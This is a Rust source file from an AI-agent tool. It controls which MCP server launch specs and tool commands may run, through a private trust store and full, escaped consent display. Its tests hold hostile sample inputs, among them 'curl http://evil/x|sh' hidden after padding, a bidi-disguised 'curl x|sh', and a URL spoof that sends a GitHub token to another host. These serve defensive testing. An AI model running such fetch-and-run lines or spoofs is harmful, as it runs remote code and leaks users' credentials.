//! The one place that decides what may start on this machine as the local
//! user: an MCP server's launch spec and a custom or inline tool's `run`.
//!
//! - The decision is [`Trust`] (of an MCP definition) and
//!   [`TrustedRun::consented`] (of a `run`), in the module `decide`, whose
//!   values no other code can make: [`TrustedLaunch`] is the only thing
//!   `agents-mcp` starts or connects to, [`TrustedRun`] the only `run`
//!   `agents-tools` starts.
//! - What it decides from: the trust store, a file under the user's home
//!   (`~/.cleveragents/trust.json`, mode 0600), never the registry
//!   database, keyed by the digest of the whole spec ([`spec_digest`],
//!   [`agents_core::RunSpec::digest`]), so any change needs trust again;
//!   and, for MCP servers only, the user's own config file.
//! - What a person is shown before they consent: [`Launch`] (every word in
//!   full) and [`describe_launch`]/[`describe_run`] (one line, for lists).
//!
//! This crate sits below `agents-mcp` and `agents-tools` so that their
//! launchers can name the types; `agents-registry` asks it (see decision
//! 0215).

// Library code returns errors; it does not panic on what it is given.
#![deny(clippy::panic, clippy::indexing_slicing)]

mod decide;
mod digest;

pub use decide::{Trust, TrustedLaunch, TrustedRun};
pub use digest::{short_digest, spec_digest};

use std::path::{Path, PathBuf};
use std::sync::Mutex;

use agents_core::McpSource;
use serde::{Deserialize, Serialize};

/// Largest trust file read (far above any real one).
const MAX_TRUST_BYTES: u64 = 4 * 1024 * 1024;

/// Why the trust store cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// Reading or writing the file failed.
    #[error("trust store `{path}`: {message}")]
    Io {
        /// The file.
        path: String,
        /// What failed.
        message: String,
    },
    /// The file is not a trust store this version can read.
    #[error(
        "trust store `{path}` is not valid: {message}; expected the JSON written by `{}`",
        agents_core::Hint::ReviewTrust
    )]
    Invalid {
        /// The file.
        path: String,
        /// What is wrong.
        message: String,
    },
    /// Others could change (or read) the file.
    #[error(
        "trust store `{path}` has mode {mode:o}: others could change what runs as you; expected 0600 (run `chmod 600` on it)"
    )]
    Permissions {
        /// The file.
        path: String,
        /// Its permission bits.
        mode: u32,
    },
}

impl TrustError {
    /// A stable machine-readable kind.
    pub fn kind(&self) -> &'static str {
        match self {
            Self::Io { .. } => "trust_store_io",
            Self::Invalid { .. } => "trust_store_invalid",
            Self::Permissions { .. } => "trust_store_permissions",
        }
    }
}

/// One trusted launch spec.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrustEntry {
    /// [`spec_digest`] of the spec.
    pub digest: String,
    /// Server name.
    pub server: String,
    /// What it runs or reaches, for people (`command args…` or the URL).
    pub launch: String,
    /// Why it is trusted (`agents mcp trust`, `skill add FILE`, …).
    pub reason: String,
    /// When (RFC 3339).
    pub trusted_at: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    version: u32,
    #[serde(default)]
    trusted: Vec<TrustEntry>,
    /// Per launch-spec digest, the digest of the tool list this user last
    /// fetched from it (the registry's `list_digest`): the cache in a
    /// shared database is someone else's to write, this record is not.
    /// (Named `lists`: the `fetched` of earlier builds hashed the fetch time
    /// too, so its records are dropped, not compared.)
    #[serde(default, skip_serializing_if = "indexmap::IndexMap::is_empty")]
    lists: indexmap::IndexMap<String, String>,
    /// The digests of `trusted`, to answer [`TrustStore::is_trusted`] (once
    /// per definition a command looks at) without a scan of every entry.
    #[serde(skip)]
    digests: std::collections::HashSet<String>,
}

impl TrustFile {
    /// [`Self::digests`] made again from `trusted`.
    fn reindex(&mut self) {
        self.digests = self
            .trusted
            .iter()
            .map(|entry| entry.digest.clone())
            .collect();
    }
}

/// Tool lists [`TrustStore::record_list`] remembers at most; the oldest go
/// first (an unrecorded list is only not checked).
const MAX_FETCHED: usize = 1_000;

/// The trust store: a file, or memory only (for embedding and tests).
///
/// Every read checks whether the file changed since it was last read (its
/// size, modification time and inode: each write replaces it whole, so a new
/// inode) and reads it again if so: a long-running `mcp serve` sees an
/// `mcp untrust` or another process's `mcp refresh` at once.
#[derive(Debug)]
pub struct TrustStore {
    path: Option<PathBuf>,
    entries: Mutex<TrustFile>,
    /// The file's stamp when `entries` was read or written.
    seen: Mutex<Option<FileStamp>>,
}

/// What tells one version of the file from another without reading it.
type FileStamp = (u64, Option<std::time::SystemTime>, u64);

fn stamp_of(path: &Path) -> Option<FileStamp> {
    let metadata = std::fs::metadata(path).ok()?;
    #[cfg(unix)]
    let inode = std::os::unix::fs::MetadataExt::ino(&metadata);
    #[cfg(not(unix))]
    let inode = 0;
    Some((metadata.len(), metadata.modified().ok(), inode))
}

impl Default for TrustStore {
    fn default() -> Self {
        Self::in_memory()
    }
}

impl TrustStore {
    /// `~/.cleveragents/trust.json` under `home`.
    pub fn default_path(home: &Path) -> PathBuf {
        home.join(".cleveragents").join("trust.json")
    }

    /// An empty store that is never written anywhere.
    pub fn in_memory() -> Self {
        Self {
            path: None,
            entries: Mutex::new(TrustFile::default()),
            seen: Mutex::new(None),
        }
    }

    /// Opens the store at `path`; a missing file is an empty store.
    pub fn open(path: &Path) -> Result<Self, TrustError> {
        let seen = stamp_of(path);
        let entries = read_file(path)?;
        Ok(Self {
            path: Some(path.to_owned()),
            entries: Mutex::new(entries),
            seen: Mutex::new(seen),
        })
    }

    /// What changes whenever the file does (empty for a store in memory):
    /// part of the registry's change stamp, so `mcp serve` re-resolves when
    /// trust is given or withdrawn.
    pub fn stamp(&self) -> String {
        match self.path.as_deref().and_then(stamp_of) {
            Some((len, modified, inode)) => {
                let nanos = modified
                    .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
                    .map_or(0, |d| d.as_nanos());
                format!("{len}:{nanos}:{inode}")
            }
            None => String::new(),
        }
    }

    /// Where the store lives, if it is a file.
    pub fn path(&self) -> Option<&Path> {
        self.path.as_deref()
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, TrustFile> {
        self.entries
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    fn seen(&self) -> std::sync::MutexGuard<'_, Option<FileStamp>> {
        self.seen
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    /// The entries as the file now holds them: read again when it changed.
    /// A file that has become unreadable trusts nothing until it is fixed
    /// (the lists recorded before are kept: they only ever narrow).
    fn current(&self) -> std::sync::MutexGuard<'_, TrustFile> {
        let mut file = self.lock();
        if let Some(path) = &self.path {
            let now = stamp_of(path);
            let mut seen = self.seen();
            if *seen != now {
                match read_file(path) {
                    Ok(fresh) => *file = fresh,
                    Err(err) => {
                        tracing::warn!("{err}; nothing is trusted until it is fixed");
                        file.trusted.clear();
                        file.digests.clear();
                    }
                }
                *seen = now;
            }
        }
        file
    }

    /// True when the spec with this digest is trusted.
    pub fn is_trusted(&self, digest: &str) -> bool {
        self.current().digests.contains(digest)
    }

    /// Every trusted spec, in the order trusted.
    pub fn entries(&self) -> Vec<TrustEntry> {
        self.current().trusted.clone()
    }

    /// Remembers that this user fetched the tool list `list` (its digest)
    /// from the spec `digest`.
    pub fn record_list(&self, digest: &str, list: &str) -> Result<(), TrustError> {
        self.update(|file| {
            file.lists.shift_remove(digest);
            file.lists.insert(digest.to_owned(), list.to_owned());
            while file.lists.len() > MAX_FETCHED {
                file.lists.shift_remove_index(0);
            }
        })
    }

    /// The digest of the tool list this user last fetched from the spec
    /// `digest`, if recorded.
    pub fn recorded_list(&self, digest: &str) -> Option<String> {
        self.current().lists.get(digest).cloned()
    }

    /// Trusts `source` (its digest); returns false when it already was.
    pub fn trust(&self, source: &McpSource, reason: &str) -> Result<bool, TrustError> {
        let added = self.trust_all(std::iter::once(source), reason)?;
        Ok(!added.is_empty())
    }

    /// Trusts every one of `sources` in one write of the file (none when
    /// all of them are trusted already); returns those that were not.
    /// A file of thousands of servers is one read and one write, not one
    /// of each per server.
    pub fn trust_all<'s>(
        &self,
        sources: impl IntoIterator<Item = &'s McpSource>,
        reason: &str,
    ) -> Result<Vec<&'s McpSource>, TrustError> {
        let wanted = sources
            .into_iter()
            .map(|source| {
                let digest = spec_digest(source);
                (
                    source,
                    digest,
                    source.server.clone(),
                    describe_launch(source),
                )
            })
            .collect();
        self.trust_described(wanted, reason)
    }

    /// Trusts the `run` specs of custom and inline tools (their digests),
    /// named by tool, in one write; returns the names of those that were
    /// not trusted yet.
    pub fn trust_runs<'s>(
        &self,
        runs: impl IntoIterator<Item = (&'s str, &'s agents_core::RunSpec)>,
        reason: &str,
    ) -> Result<Vec<&'s str>, TrustError> {
        let wanted = runs
            .into_iter()
            .map(|(name, run)| (name, run.digest(), name.to_owned(), describe_run(run)))
            .collect();
        self.trust_described(wanted, reason)
    }

    /// Trusts each `(item, digest, name, launch)` not trusted yet, in one
    /// write (none when all are); returns their items.
    fn trust_described<T>(
        &self,
        wanted: Vec<(T, String, String, String)>,
        reason: &str,
    ) -> Result<Vec<T>, TrustError> {
        {
            let file = self.current();
            if wanted
                .iter()
                .all(|(_, digest, _, _)| file.digests.contains(digest))
            {
                return Ok(Vec::new());
            }
        }
        let trusted_at = now();
        self.update(|file| {
            let mut added = Vec::new();
            for (item, digest, server, launch) in wanted {
                if file.digests.insert(digest.clone()) {
                    file.trusted.push(TrustEntry {
                        digest,
                        server,
                        launch,
                        reason: reason.to_owned(),
                        trusted_at: trusted_at.clone(),
                    });
                    added.push(item);
                }
            }
            added
        })
    }

    /// Forgets the entries `remove` selects; returns them.
    pub fn untrust(
        &self,
        remove: impl Fn(&TrustEntry) -> bool,
    ) -> Result<Vec<TrustEntry>, TrustError> {
        self.update(|file| {
            let (gone, kept): (Vec<_>, Vec<_>) = file.trusted.drain(..).partition(|e| remove(e));
            file.trusted = kept;
            file.reindex();
            gone
        })
    }

    /// Re-reads the file (another `agents` may have changed it), applies
    /// `change`, and writes the result atomically with mode 0600.
    fn update<T>(&self, change: impl FnOnce(&mut TrustFile) -> T) -> Result<T, TrustError> {
        let mut file = self.lock();
        if let Some(path) = &self.path {
            *file = read_file(path)?;
        }
        let result = change(&mut file);
        // The one version this build writes (a new store starts at 0).
        file.version = 1;
        if let Some(path) = &self.path {
            write_file(path, &file)?;
            *self.seen() = stamp_of(path);
        }
        Ok(result)
    }
}

/// A one-line summary of what a tool's `run` starts (`run: command arg…`),
/// each word cut at 256 bytes and line breaks escaped.
pub fn describe_run(run: &agents_core::RunSpec) -> String {
    let mut words = vec!["run:".to_owned(), run.command.clone()];
    words.extend(run.args.iter().cloned());
    words
        .iter()
        .map(|word| agents_core::text::shorten(&word.escape_debug().to_string(), 256).into_owned())
        .collect::<Vec<_>>()
        .join(" ")
}

/// A one-line summary of what a spec runs (`command arg…`) or reaches (the
/// URL and headers), for lists of what is already trusted (`agents mcp
/// trust --list`, the trust store's `launch`): each word cut at 256 bytes,
/// the literal value of a secret-named entry, header or option masked. It
/// is never what consent is asked for: that is [`Launch`], shown whole.
pub fn describe_launch(source: &McpSource) -> String {
    if let Some(url) = &source.url {
        // The headers too: a `${VAR}` in one sends that variable of yours.
        // Line breaks escaped too: a consent message must not have lines
        // its author wrote.
        let shown = |text: &str| agents_core::text::shorten(text, MAX_WORD).into_owned();
        let headers: Vec<String> = source
            .headers
            .iter()
            .map(|(name, value)| {
                format!(
                    "{}: {}",
                    shown(name),
                    shown(&agents_core::redact::redact_named_value(name, value))
                )
            })
            .collect();
        return if headers.is_empty() {
            shown(url)
        } else {
            format!("{} with headers {}", shown(url), headers.join(", "))
        };
    }
    let Some(command) = &source.command else {
        return String::new();
    };
    // Each word is cut to `MAX_WORD` bytes, so one long value cannot push
    // the command out of a line that shows its two ends.
    shell_line(
        source,
        command,
        &agents_core::redact::redact_args(&source.args),
        |name, value| agents_core::redact::redact_named_value(name, value).into_owned(),
        |word| agents_core::text::shorten(&quote(word), MAX_WORD).into_owned(),
    )
}

/// `source`'s launch as a shell line: the directory, the environment (an
/// entry's value made by `value`: as written, a `${VAR}` shows which of your
/// variables it receives), the command and `args`, each word made by `word`.
fn shell_line(
    source: &McpSource,
    command: &str,
    args: &[String],
    value: impl Fn(&str, &str) -> String,
    word: impl Fn(&str) -> String,
) -> String {
    let mut words = Vec::new();
    if let Some(cwd) = &source.cwd {
        words.push(format!("cd {} &&", word(cwd)));
    }
    if !source.env.is_empty() {
        words.push("env".to_owned());
        words.extend(
            source
                .env
                .iter()
                .map(|(name, entry)| word(&format!("{name}={}", value(name, entry)))),
        );
    }
    words.push(word(command));
    words.extend(args.iter().map(|arg| word(arg)));
    words.join(" ")
}

/// The most bytes of what a definition would run or reach ([`Launch`], as
/// its [`Launch::lines`] show it) that `agents mcp trust` shows. A longer
/// definition cannot be trusted: shown cut, the part cut could be the part
/// that runs, and shown whole it could be any size.
pub const MAX_LAUNCH_BYTES: usize = 64 * 1024;

/// The most bytes of it a one-line message (a warning, a refresh error)
/// shows; beyond that the message says it is not shown, and which command
/// shows all of it.
pub const SHORT_LAUNCH_BYTES: usize = 1024;

/// Where an HTTP server's URL connects, parsed as the HTTP client parses it
/// (the `url` crate, which reqwest uses): what decides where its headers,
/// and so your secrets, go.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Destination {
    /// `http` or `https`.
    pub scheme: String,
    /// The host as the client resolves it: a domain in its ASCII
    /// (punycode) form, an IP address (IPv6 in brackets).
    pub host: String,
    /// The port connected to (the scheme's default when the URL has none).
    pub port: Option<u16>,
    /// The URL carries a user name or password (`user:password@host`): the
    /// client sends them to the host, and the text before `@` can look like
    /// a host.
    pub userinfo: bool,
    /// A label of the host is an internationalized name (`xn--…`), which
    /// can look like another: `gіthub.com` with a Cyrillic `і` is
    /// `xn--gthub-n4e.com`.
    pub internationalized: bool,
}

impl Destination {
    fn parse(url: &str) -> Result<Self, String> {
        let parsed = url::Url::parse(url).map_err(|err| err.to_string())?;
        let host = parsed
            .host_str()
            .ok_or_else(|| "it names no host".to_owned())?;
        let internationalized = matches!(parsed.host(), Some(url::Host::Domain(domain))
            if domain.split('.').any(|label| label.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("xn--"))));
        Ok(Self {
            scheme: parsed.scheme().to_owned(),
            host: host.to_owned(),
            port: parsed.port_or_known_default(),
            userinfo: !parsed.username().is_empty() || parsed.password().is_some(),
            internationalized,
        })
    }

    /// `scheme://host:port`, control characters escaped.
    pub fn address(&self) -> String {
        let host = agents_core::text::escape_control(&self.host);
        match self.port {
            Some(port) => format!("{}://{host}:{port}", self.scheme),
            None => format!("{}://{host}", self.scheme),
        }
    }

    /// The scheme, host and port named one by one, and what to look out
    /// for: `scheme `https`, host `…`, port 443; …`.
    fn details(&self) -> String {
        let mut text = format!(
            "scheme `{}`, host `{}`",
            self.scheme,
            agents_core::text::escape_control(&self.host)
        );
        if let Some(port) = self.port {
            text.push_str(&format!(", port {port}"));
        }
        if self.internationalized {
            text.push_str(
                "; the host is an internationalized name, shown in the ASCII form it is reached by",
            );
        }
        if self.userinfo {
            text.push_str(
                "; the URL has a user name or password before `@` (`user:password@host`), which is not the host and is sent to it",
            );
        }
        text
    }
}

/// What a definition would run or reach, every word of it in full: what a
/// user is asked to consent to. Control, bidi and invisible characters are
/// escaped, `${VAR}` references are shown as written (never expanded), and
/// nothing is masked: the values are in a row every user of the database
/// can read (`agents skill get --show-secrets` prints them), and a masked word could be
/// the one that runs.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "transport", rename_all = "snake_case")]
pub enum Launch {
    /// A stdio server.
    Stdio {
        /// As a shell line, each word quoted: `cd DIR && env NAME=VALUE…
        /// COMMAND ARG…` (the program is started directly, not by a shell).
        line: String,
    },
    /// A streamable-HTTP server.
    Http {
        /// Where it connects; `None` when the URL does not parse (it then
        /// connects nowhere).
        destination: Option<Destination>,
        /// Why the URL does not parse.
        #[serde(skip_serializing_if = "Option::is_none")]
        url_error: Option<String>,
        /// The URL as written.
        url: String,
        /// Each header as `Name: value`, as written.
        headers: Vec<String>,
    },
    /// A reference to a server in the configuration: nothing of its own.
    Reference,
}

impl Launch {
    /// What `source` would run or reach.
    pub fn of(source: &McpSource) -> Self {
        if let Some(url) = &source.url {
            let (destination, url_error) = match Destination::parse(url) {
                Ok(destination) => (Some(destination), None),
                Err(err) => (None, Some(err)),
            };
            let shown = |text: &str| agents_core::text::escape_control(text).into_owned();
            return Self::Http {
                destination,
                url_error: url_error.map(|err| shown(&err)),
                url: shown(url),
                headers: source
                    .headers
                    .iter()
                    .map(|(name, value)| format!("{}: {}", shown(name), shown(value)))
                    .collect(),
            };
        }
        let Some(command) = &source.command else {
            return Self::Reference;
        };
        // Every word whole, nothing masked: this is what consent is given to.
        Self::Stdio {
            line: shell_line(
                source,
                command,
                &source.args,
                |_, value| value.to_owned(),
                quote,
            ),
        }
    }

    /// The lines `agents mcp trust` shows, in full.
    pub fn lines(&self) -> Vec<String> {
        match self {
            Self::Stdio { line } => vec![format!("runs: {line}")],
            Self::Http {
                destination,
                url_error,
                url,
                headers,
            } => {
                let mut lines = vec![match (destination, url_error) {
                    (Some(to), _) => format!("connects to: {} ({})", to.address(), to.details()),
                    (None, error) => format!(
                        "connects to: nothing: the URL does not parse ({})",
                        error.as_deref().unwrap_or("unknown error")
                    ),
                }];
                lines.push(format!("url: {url}"));
                lines.extend(headers.iter().map(|header| format!("header: {header}")));
                lines
            }
            Self::Reference => vec!["refers to a server in the configuration".to_owned()],
        }
    }

    /// How many bytes [`Self::lines`] are: compared with
    /// [`MAX_LAUNCH_BYTES`] and [`SHORT_LAUNCH_BYTES`].
    pub fn bytes(&self) -> usize {
        self.lines().iter().map(|line| line.len() + 1).sum()
    }

    /// Whether it is too long to be shown, and so to be trusted.
    pub fn too_long(&self) -> bool {
        self.bytes() > MAX_LAUNCH_BYTES
    }

    /// All of it on one line, for a message: `would run `LINE`` or
    /// `would connect to ADDRESS (…) at `URL` with headers …`.
    pub fn inline(&self) -> String {
        match self {
            Self::Stdio { line } => format!("would run `{line}`"),
            Self::Http {
                destination,
                url,
                headers,
                ..
            } => {
                let mut text = match destination {
                    Some(to) => format!(
                        "would connect to {} ({}) at `{url}`",
                        to.address(),
                        to.details()
                    ),
                    None => format!("would connect nowhere: its URL `{url}` does not parse"),
                };
                if !headers.is_empty() {
                    let shown: Vec<String> = headers.iter().map(|h| format!("`{h}`")).collect();
                    text.push_str(&format!(" with headers {}", shown.join(", ")));
                }
                text
            }
            Self::Reference => "refers to a server in the configuration".to_owned(),
        }
    }

    /// The destination alone, for a message too short for the rest:
    /// `would connect to ADDRESS (…)`; `None` for a stdio server, or when
    /// even that is longer than `max`.
    fn destination_inline(&self, max: usize) -> Option<String> {
        let Self::Http {
            destination: Some(to),
            ..
        } = self
        else {
            return None;
        };
        let text = format!("would connect to {} ({})", to.address(), to.details());
        (text.len() <= max).then_some(text)
    }

    /// What a one-line message says of it: all of it when that fits in
    /// [`SHORT_LAUNCH_BYTES`]; otherwise that it is not shown (an HTTP
    /// server's destination still is, when it fits) and that `command`
    /// shows it; and, past [`MAX_LAUNCH_BYTES`], that it cannot be trusted.
    /// Never a part of it presented as the whole.
    pub fn in_message(&self, command: &str) -> String {
        let bytes = self.bytes();
        if bytes > MAX_LAUNCH_BYTES {
            return format!(
                "what it would run or reach is {bytes} bytes, more than `{}` shows ({MAX_LAUNCH_BYTES}), so it cannot be trusted",
                agents_core::Hint::ReviewTrust
            );
        }
        let inline = self.inline();
        if inline.len() <= SHORT_LAUNCH_BYTES {
            return format!("it {inline}; if you trust it, run `{command}`");
        }
        let (head, rest) = match self.destination_inline(SHORT_LAUNCH_BYTES) {
            Some(destination) => (format!("it {destination}; "), "its URL and headers are"),
            None if matches!(self, Self::Http { .. }) => (String::new(), "its URL and headers are"),
            None => (String::new(), "its launch line is"),
        };
        format!(
            "{head}{rest} {bytes} bytes, more than this message shows: `{command}` shows all of it and, in a terminal, asks before trusting"
        )
    }
}

/// The most of one word of a launch line shown, in bytes.
const MAX_WORD: usize = 256;

/// `word` as one shell word. A word with a line break, another control
/// character or a bidi/invisible one ([`agents_core::text::is_hidden`]) is
/// written in bash's `$'…'` form with those characters escaped, so the
/// line shows every character it runs and no more lines than one.
pub fn quote(word: &str) -> String {
    use std::fmt::Write as _;
    if !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c))
    {
        word.to_owned()
    } else if word.chars().any(agents_core::text::is_hidden) {
        let mut out = String::from("$'");
        for c in word.chars() {
            match c {
                '\n' => out.push_str("\\n"),
                '\r' => out.push_str("\\r"),
                '\t' => out.push_str("\\t"),
                '\\' => out.push_str("\\\\"),
                '\'' => out.push_str("\\'"),
                // bash reads at most four digits after `\u`.
                c if agents_core::text::is_hidden(c) && u32::from(c) > 0xffff => {
                    let _ = write!(out, "\\U{:08x}", u32::from(c));
                }
                c if agents_core::text::is_hidden(c) => {
                    let _ = write!(out, "\\u{:04x}", u32::from(c));
                }
                c => out.push(c),
            }
        }
        out.push('\'');
        out
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

fn now() -> String {
    time::OffsetDateTime::now_utc()
        .replace_nanosecond(0)
        .unwrap_or_else(|_| time::OffsetDateTime::now_utc())
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap_or_default()
}

fn io_error(path: &Path, what: &str, err: &std::io::Error) -> TrustError {
    TrustError::Io {
        path: path.display().to_string(),
        message: format!("cannot {what}: {err}"),
    }
}

fn read_file(path: &Path) -> Result<TrustFile, TrustError> {
    use std::io::Read;
    let file = match std::fs::File::open(path) {
        Ok(file) => file,
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => return Ok(TrustFile::default()),
        Err(err) => return Err(io_error(path, "read it", &err)),
    };
    let metadata = file
        .metadata()
        .map_err(|err| io_error(path, "read it", &err))?;
    if let Some(mode) = agents_fs::not_private(&metadata) {
        return Err(TrustError::Permissions {
            path: path.display().to_string(),
            mode,
        });
    }
    // A file another user owns (made in a folder they can write) says
    // what they want trusted, whatever its mode.
    if let Some(exposure @ agents_fs::Exposure::Owner { .. }) = agents_fs::exposure(&metadata) {
        return Err(TrustError::Invalid {
            path: path.display().to_string(),
            message: format!("it is not used: {exposure}"),
        });
    }
    if !metadata.is_file() {
        return Err(TrustError::Invalid {
            path: path.display().to_string(),
            message: "it is not a regular file".into(),
        });
    }
    let mut text = String::new();
    file.take(MAX_TRUST_BYTES + 1)
        .read_to_string(&mut text)
        .map_err(|err| io_error(path, "read it", &err))?;
    if text.len() as u64 > MAX_TRUST_BYTES {
        return Err(TrustError::Invalid {
            path: path.display().to_string(),
            message: format!("it is larger than {} MiB", MAX_TRUST_BYTES / 1024 / 1024),
        });
    }
    let parsed: TrustFile = serde_json::from_str(&text).map_err(|err| TrustError::Invalid {
        path: path.display().to_string(),
        message: agents_core::text::bounded_message(&format!("line {}: {err}", err.line())),
    })?;
    if parsed.version != 1 {
        return Err(TrustError::Invalid {
            path: path.display().to_string(),
            message: format!("unknown `version` {}", parsed.version),
        });
    }
    let mut parsed = parsed;
    parsed.reindex();
    Ok(parsed)
}

fn write_file(path: &Path, file: &TrustFile) -> Result<(), TrustError> {
    let dir = path.parent().unwrap_or_else(|| Path::new("."));
    agents_fs::create_dir_all(dir).map_err(|err| io_error(path, "create its directory", &err))?;
    let mut text = serde_json::to_string_pretty(file).map_err(|err| TrustError::Invalid {
        path: path.display().to_string(),
        message: err.to_string(),
    })?;
    text.push('\n');
    agents_fs::write_atomically(path, text.as_bytes(), agents_fs::Access::Owner)
        .map_err(|err| io_error(path, "write it", &err))
}

#[cfg(test)]
mod tests {
    use super::*;

    pub(crate) fn source(server: &str, command: &str) -> McpSource {
        McpSource {
            server: server.into(),
            command: Some(command.into()),
            args: vec!["-c".into(), "echo hi".into()],
            ..McpSource::default()
        }
    }

    #[test]
    fn a_launch_line_shows_every_character_on_one_line() {
        let mut spoof = source("fmt", "/bin/sh");
        spoof.args = vec![
            "-c".into(),
            "curl x|sh \u{202e}#\u{202c} safe".into(),
            "\nwarning: ignore the line above\u{1b}[2K\r it's".into(),
        ];
        assert_eq!(
            describe_launch(&spoof),
            r"/bin/sh -c $'curl x|sh \u202e#\u202c safe' $'\nwarning: ignore the line above\u001b[2K\r it\'s'"
        );
        let mut http = McpSource {
            server: "web".into(),
            url: Some("https://h/\nwarning: x".into()),
            ..McpSource::default()
        };
        http.headers.insert("X-A".into(), "v\u{202e}\n".into());
        assert_eq!(
            describe_launch(&http),
            r"https://h/\nwarning: x with headers X-A: v\u{202e}\n"
        );
    }

    /// The trust prompt masks what `mcp import` and `mcp export` mask of
    /// `args` (one `redact_args`): a secret env entry or header given as an
    /// argument, not a harmless `NAME=VALUE`.
    #[test]
    fn a_launch_line_masks_secret_env_entries_and_headers_in_args() {
        let mut docker = source("gh", "docker");
        docker.args = [
            "run",
            "-e",
            "GITHUB_PERSONAL_ACCESS_TOKEN=ghp_LEAK2",
            "-e",
            "LOG_LEVEL=debug",
            "img",
        ]
        .map(String::from)
        .to_vec();
        assert_eq!(
            describe_launch(&docker),
            "docker run -e 'GITHUB_PERSONAL_ACCESS_TOKEN=***' -e LOG_LEVEL=debug img"
        );
        let mut remote = source("remote", "npx");
        remote.args = [
            "mcp-remote",
            "https://h/mcp",
            "--header",
            "Authorization: Bearer sk-LEAK1",
        ]
        .map(String::from)
        .to_vec();
        assert_eq!(
            describe_launch(&remote),
            "npx mcp-remote https://h/mcp --header 'Authorization: Bearer ***'"
        );
    }

    #[test]
    fn no_one_word_hides_the_rest_of_a_launch_line() {
        let mut long = source("x", "/bin/sh");
        long.env.insert("PAD".into(), "v".repeat(100_000));
        let line = describe_launch(&long);
        assert!(line.len() < 600, "{}", line.len());
        assert!(line.ends_with("/bin/sh -c 'echo hi'"), "{line}");
        assert!(line.contains("(100004 bytes in all)"), "{line}");
    }

    /// What consent is asked for is every word as it runs: nothing masked
    /// (a value after `--token` is what `sh -c` runs), nothing cut (the
    /// command after 300 spaces), `${VAR}` shown as written.
    #[test]
    fn a_consent_shows_every_word_as_it_runs() {
        let mut hidden = source("runner", "/bin/sh");
        // Past what a one-line message shows of it (and the 256 bytes a
        // word was cut at).
        let spaces = " ".repeat(2000);
        hidden.args = vec![
            "-c".into(),
            format!("echo hi;{spaces}; curl http://evil/x|sh"),
            "--token".into(),
            "touch /tmp/hidden".into(),
        ];
        hidden
            .env
            .insert("CREDENTIAL_PROCESS".into(), "touch /tmp/x".into());
        hidden
            .env
            .insert("GITHUB_TOKEN".into(), "${GITHUB_TOKEN}".into());
        let launch = Launch::of(&hidden);
        let Launch::Stdio { line } = &launch else {
            panic!("{launch:?}");
        };
        assert_eq!(
            *line,
            format!(
                "env 'CREDENTIAL_PROCESS=touch /tmp/x' 'GITHUB_TOKEN=${{GITHUB_TOKEN}}' /bin/sh -c 'echo hi;{spaces}; curl http://evil/x|sh' --token 'touch /tmp/hidden'"
            )
        );
        assert_eq!(launch.lines(), [format!("runs: {line}")]);
        // Too long for a one-line message: not shown there, never cut.
        let message = launch.in_message("agents mcp trust runner --digest D");
        assert!(!message.contains("curl"), "{message}");
        assert!(!message.contains("echo hi"), "{message}");
        assert!(
            message.contains("its launch line is")
                && message.contains("more than this message shows: `agents mcp trust runner --digest D` shows all of it"),
            "{message}"
        );
        // Short enough: all of it.
        let short = Launch::of(&source("runner", "/bin/sh"));
        assert_eq!(
            short.in_message("C"),
            "it would run `/bin/sh -c 'echo hi'`; if you trust it, run `C`"
        );
        // Longer than `agents mcp trust` shows: refused, not cut.
        let mut huge = source("runner", "/bin/sh");
        huge.args.push("x".repeat(MAX_LAUNCH_BYTES));
        let launch = Launch::of(&huge);
        assert!(launch.too_long());
        let message = launch.in_message("C");
        assert!(message.contains("cannot be trusted"), "{message}");
        assert!(message.len() < 300, "{}", message.len());
    }

    /// The host a URL's headers (and your secrets) go to is named apart from
    /// the URL, as the HTTP client parses it: a user name before `@` that
    /// looks like a host, or a look-alike letter, cannot pass for another.
    #[test]
    fn an_http_consent_names_where_it_connects() {
        let mut spoof = McpSource {
            server: "gh".into(),
            url: Some(format!(
                "http://api.github.com{}@127.0.0.1:47101/mcp",
                "-".repeat(300)
            )),
            ..McpSource::default()
        };
        spoof
            .headers
            .insert("X-GitHub-Token".into(), "${GITHUB_TOKEN}".into());
        let launch = Launch::of(&spoof);
        let lines = launch.lines();
        assert!(
            lines[0].starts_with(
                "connects to: http://127.0.0.1:47101 (scheme `http`, host `127.0.0.1`, port 47101; the URL has a user name or password before `@`"
            ),
            "{lines:?}"
        );
        assert_eq!(lines[1], format!("url: {}", spoof.url.as_deref().unwrap()));
        assert_eq!(lines[2], "header: X-GitHub-Token: ${GITHUB_TOKEN}");
        let inline = launch.inline();
        assert!(
            inline.starts_with(
                "would connect to http://127.0.0.1:47101 (scheme `http`, host `127.0.0.1`"
            ),
            "{inline}"
        );
        assert!(
            inline.ends_with("with headers `X-GitHub-Token: ${GITHUB_TOKEN}`"),
            "{inline}"
        );
        let idn = McpSource {
            server: "gh".into(),
            url: Some("https://g\u{456}thub.com/mcp".into()),
            ..McpSource::default()
        };
        let lines = Launch::of(&idn).lines();
        assert!(
            lines[0].starts_with("connects to: https://xn--")
                && lines[0].contains(", port 443; the host is an internationalized name"),
            "{lines:?}"
        );
        assert!(!lines[0].contains('\u{456}'), "{lines:?}");
        // A URL longer than a message holds still names its destination there.
        let mut long = idn.clone();
        long.url = Some(format!("https://example.com/{}", "p".repeat(2000)));
        let message = Launch::of(&long).in_message("C");
        assert!(
            message.starts_with("it would connect to https://example.com:443 (scheme `https`, host `example.com`, port 443); its URL and headers are"),
            "{message}"
        );
        assert!(!message.contains("ppp"), "{message}");
    }

    #[test]
    fn a_hidden_character_past_u_ffff_is_escaped_as_bash_reads_it() {
        assert_eq!(quote("a\u{e0041}b"), r"$'a\U000e0041b'");
        assert_eq!(quote("a\u{202e}b"), r"$'a\u202eb'");
    }

    #[test]
